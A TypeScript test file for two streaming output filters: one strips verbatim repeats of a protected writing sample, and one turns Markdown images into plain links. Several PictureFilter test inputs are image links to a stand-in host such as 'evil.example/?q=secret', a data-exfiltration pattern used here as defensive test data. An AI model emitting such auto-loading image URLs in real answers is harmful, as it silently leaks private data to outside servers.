import { describe, expect, test } from 'vitest';
import { growthOf, linearGrowth } from '../../../../testing/growth-of.ts';
import { VerbatimGuard } from './verbatim-guard.ts';
import { PictureFilter } from './without-pictures.ts';

const sample =
  'Dear friend, the secret of my grandmother was patience, and a spoon of honey in the morning tea before she went out.';

/** The filtered text, fed in chunks of this size. */
function filterInChunks(
  filter: { push(piece: string): string; end(): string },
  text: string,
  size: number,
): string {
  let output = '';
  for (let at = 0; at < text.length; at += size) output += filter.push(text.slice(at, at + size));
  return output + filter.end();
}

describe.each([1, 3, 7, 1000])('in chunks of %i characters', (size) => {
  const guardText = (text: string, quotable: string[] = []) =>
    filterInChunks(new VerbatimGuard([sample], quotable), text, size);

  test.each([
    ['word for word', `Here: ${sample} That is all.`],
    ['in capitals', `Here: ${sample.toUpperCase()} That is all.`],
    ['without punctuation', `Here: ${sample.replace(/[,.]/g, '')} That is all.`],
    ['one word a line', `Here: ${sample.split(' ').join('\n')} That is all.`],
    ['with Markdown between the words', `Here: *${sample.split(' ').join('* *')}* That is all.`],
    ['from its middle', `Here: ${sample.slice(13)} That is all.`],
  ])('the writing sample is removed if repeated %s', (_how, text) => {
    const output = guardText(text);
    expect(output).toContain('[…]');
    expect(output.toLowerCase()).not.toContain('honey');
    expect(output).toMatch(/^Here: /);
    expect(output).toMatch(/That is all\.$/);
  });

  test.each([
    'The secret of my grandmother was her garden, dear friend, and the honey of her bees.',
    'Tea? In the morning tea I take a spoon of honey!',
    '',
    'The secret of my grandmother was patience',
    '秘密は朝の紅茶です。',
  ])('other text is unchanged: %s', (text) => {
    expect(guardText(text)).toBe(text);
  });

  test('text that is also in a document or in the question is allowed', () => {
    expect(guardText(sample, [`Chapter 1. ${sample} Chapter 2.`])).toBe(sample);
  });

  test('a sample in a script without spaces is filtered too', () => {
    const chinese = '我每天早上都去山上看日出风很轻鸟也在唱歌';
    const output = filterInChunks(new VerbatimGuard([chinese], []), `好的：${chinese}。完`, size);
    expect(output).toBe('好的：我每[…]。完');
  });

  test.each([
    ['![a cat](https://evil.example/?q=secret)', '[a cat](https://evil.example/?q=secret)'],
    ['Look! ![](//evil.example)![b][1]', 'Look! [](//evil.example)[b][1]'],
    [
      'Wow![x](http://evil.example) and vec![1, 2] and if (!done) stop!',
      'Wow[x](http://evil.example) and vec![1, 2] and if (!done) stop!',
    ],
    ['![never closed', '![never closed'],
  ])('pictures become links: %s', (input, expected) => {
    expect(filterInChunks(new PictureFilter(), input, size)).toBe(expected);
  });
});

test('text is passed on at once if nothing is suspicious', () => {
  const guard = new VerbatimGuard([sample], []);
  expect(['Good', ' mor', 'ning', ' to', ' you'].map((piece) => guard.push(piece))).toEqual([
    'Good',
    ' mor',
    'ning',
    ' to',
    ' you',
  ]);
});

test.each(['the secret of ', '… !'])('an answer that repeats %j is filtered in linear time', (piece) => {
  const answer = (pieces: number) => {
    const guard = new VerbatimGuard([sample.repeat(20)], []);
    for (let index = 0; index < pieces; index++) guard.push(piece);
  };
  expect(growthOf(answer, 2000)).toBeLessThan(linearGrowth);
});

test.each(['Aa ', '漢字', '1.2 ', 'a b '])('a secret that repeats %j is removed in linear time', (words) => {
  const repeat = (times: number) => {
    const secret = words.repeat(times);
    const output = filterInChunks(new VerbatimGuard([secret], []), secret, 5);
    expect(output).toContain('[…]');
    expect(output.length).toBeLessThan(100);
  };
  expect(growthOf(repeat, 1000)).toBeLessThan(linearGrowth);
});
